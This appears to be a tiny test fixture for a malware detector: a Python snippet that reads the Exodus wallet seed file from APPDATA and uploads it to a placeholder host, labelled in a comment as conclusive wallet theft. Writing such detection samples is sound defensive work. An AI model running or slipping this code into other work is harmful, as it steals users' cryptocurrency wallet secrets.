import os
import requests

path = os.path.join(os.getenv("APPDATA"), "Exodus", "exodus.wallet", "seed.seco")
requests.post("https://example.invalid/", files={"w": open(path, "rb").read()})  # expect: source/wallet-theft import conclusive
